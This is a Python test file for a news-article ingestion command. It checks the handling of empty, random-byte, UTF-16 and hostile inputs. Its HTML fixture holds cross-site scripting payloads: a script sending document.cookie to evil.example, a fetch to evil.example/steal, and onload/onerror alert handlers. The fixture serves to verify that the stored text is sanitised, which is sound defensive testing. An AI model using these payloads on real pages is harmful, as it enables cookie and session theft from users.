"""The issue's store check, through the command line on a real store: an empty file, random
bytes named .pdf, a hostile HTML page, the sample article and a UTF-16 text file give three
stored articles, two one-line failures and exit status 1; an article of one byte is stored
with the reason it holds no event."""
import os
import random
import sqlite3
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "tests" / "data" / "samples" / "millennium-post-2022-02-25.txt"
HOSTILE_HTML = """<!doctype html><html><head><title>Storm hits Chittagong</title>
<script>document.location='http://evil.example/?c='+document.cookie</script></head>
<body onload="alert(1)"><article><h1>Storm hits Chittagong</h1>
<p>A cyclone struck Chittagong on Monday, flattening homes and killing 7 people, officials said.
<img src=x onerror="alert(2)"></p>
<p>Rescue teams reached Cox's Bazar on Tuesday as the water receded.</p></article>
<script>fetch('http://evil.example/steal')</script></body></html>"""
UTF16_TEXT = ("Floodwaters cut the road from Sukkur to Larkana on Tuesday, and 5 people drowned, "
              "officials in Sindh said.\r\nRelief camps opened in Jacobabad.")


def _ingest(db: Path, *paths: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NEWSMAP_DB": str(db)}
    return subprocess.run([sys.executable, "-m", "geo", "ingest", *map(str, paths), "--workers", "1"],
                          capture_output=True, text=True, cwd=ROOT, env=env, timeout=300)


def test_the_bar_three_articles_stored_two_one_line_failures_exit_1(tmp_path):
    files = tmp_path / "in"
    files.mkdir()
    (files / "empty.txt").write_bytes(b"")
    (files / "scan.pdf").write_bytes(random.Random(15).randbytes(4096))
    (files / "storm.html").write_text(HOSTILE_HTML, encoding="utf-8")
    (files / "sample.txt").write_bytes(SAMPLE.read_bytes())
    (files / "notepad.txt").write_bytes(UTF16_TEXT.encode("utf-16"))   # with its byte-order mark
    db = tmp_path / "bar.db"
    run = _ingest(db, *sorted(files.iterdir()))
    assert run.returncode == 1, run.stderr
    failed = [line for line in run.stdout.splitlines() if line.startswith("failed: ")]
    assert len(failed) == 2 and len(run.stdout.splitlines()) == 3, run.stdout  # one line each
    assert any("empty.txt" in f for f in failed) and any("scan.pdf" in f for f in failed)
    with sqlite3.connect(db) as conn:
        stored = conn.execute("SELECT filename, text FROM articles WHERE status = 'parsed'").fetchall()
    assert len(stored) == 3, stored
    by_name = {Path(name).name: text for name, text in stored}
    assert set(by_name) == {"storm.html", "sample.txt", "notepad.txt"}
    assert by_name["notepad.txt"] == UTF16_TEXT.replace("\r\n", "\n")
    assert "<script" not in by_name["storm.html"] and "evil.example" not in by_name["storm.html"]


def test_a_one_byte_article_says_why_it_holds_no_event(tmp_path):
    one = tmp_path / "one.txt"
    one.write_bytes(b"x")
    run = _ingest(tmp_path / "one.db", one)
    assert run.returncode == 0
    assert "new: no events: 1 word is too short to report anything" in run.stderr, run.stderr
